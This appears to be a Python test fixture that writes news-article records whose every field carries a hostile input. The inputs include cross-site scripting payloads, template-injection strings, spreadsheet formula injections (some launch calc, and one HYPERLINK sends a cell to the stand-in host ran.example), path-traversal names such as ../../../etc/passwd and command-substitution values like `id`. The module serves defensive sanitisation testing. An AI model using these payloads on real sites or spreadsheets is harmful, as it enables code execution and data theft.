"""Articles whose every field tries to run, to turn the line, to leave the folder or to become a formula."""

from __future__ import annotations

import json
from pathlib import Path

RUN = "document.documentElement.dataset.ran=1"
"""What each script of these tests does, so that a browser can be asked whether any of them ran."""

PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' onfocus='{RUN}' autofocus tabindex='1' x='",
    f'</title></style></textarea><svg onload="{RUN}">',
    f"javascript:{RUN}",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://ran.example/">',
    '<base href="http://ran.example/"><link rel="stylesheet" href="http://ran.example/x.css">',
    '<form action="http://ran.example/"><button autofocus>x</button></form>',
    "{{ 7*7*191 }}{% for x in range(3) %}1337{% endfor %}${7*7*191}<%= 7*7*191 %>#{7*7*191}",
    f"<!--><script>{RUN}</script>-->]]><![CDATA[<script>{RUN}</script>",
    f"\u202e<b onmouseover={RUN}>\u2066",
    f"[x](javascript:{RUN}) ![x](http://ran.example/x.png) <javascript:{RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}",
    f"\x00<scr\x00ipt>{RUN}</script>\x0b\x85\u2028",
)

FORMULAS = (
    '=HYPERLINK("http://ran.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+SUM(1+1)*cmd|"/C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '\t=IMPORTXML("http://ran.example","//a")',
    "\r=1+1",
    "\n=1+1",
)

NAMES = (
    "../../../etc/passwd", "..", ".", "/", "\\", "C:\\x", "CON", "con", "nul.txt", "aux", "COM1", "n" * 300, "N" * 300,
    "Gazette", "gazette", "GAZETTE", "a/b", "a\\b", "a b", "a%2fb", "a?b#c", "trailing.", " lead", "-o", "--force",
    "名", "é", "e\u0301", "\u202egnp.exe", "index", "index.html", "a\x00b", "a\nb", "😀", "$HOME", "`id`", "%s", "{0}",
)  # fmt: skip


def sentences(payload: str) -> str:
    """A text in which the payload stands inside evidence of each signal, and around it."""
    return (
        f"{payload} The ferry may not sail, {payload} said Tove Lind, who runs {payload}.\n\n"
        f"“We think {payload} is a disgraceful disaster,” the mayor {payload} told reporters on Monday, 3 May 2021.\n\n"
        f"Some experts {payload} believe that 47 crews of {payload} lost their work.\n\n{payload}"
    )


def write(folder: Path) -> int:
    """Articles as JSON lines, hostile file names beside them, and a manifest; gives the number of articles."""
    rows = []
    for number, payload in enumerate((*PAYLOADS, *FORMULAS)):
        for twin in ("a", "b"):
            rows.append({
                "id": f"{payload}{twin}", "source": f"{payload} {twin}" if number % 2 else f"Post {twin}",
                "title": payload, "author": payload, "credit": payload, "url": payload,
                "published": f"2021-05-{number % 28 + 1:02d}", "language": "en", "text": sentences(payload),
            })  # fmt: skip
    for number, name in enumerate(NAMES):
        text = f"{name} may be number {number}, the mayor said."
        rows.append({"id": name, "source": name, "title": name, "text": text})
    folder.mkdir(parents=True)
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "all.jsonl").write_text(lines, encoding="utf-8")
    (folder / f"<img src=x onerror={RUN}>.docm").write_bytes(b"x")
    (folder / "sources.toml").write_text(
        "[[source]]\n" + "".join(
            f"{key} = {json.dumps(value)}\n" for key, value in
            {"id": "Post a", "name": PAYLOADS[1], "url": PAYLOADS[4], "owner": PAYLOADS[0]}.items()
        ), encoding="utf-8",
    )
    return len(rows)
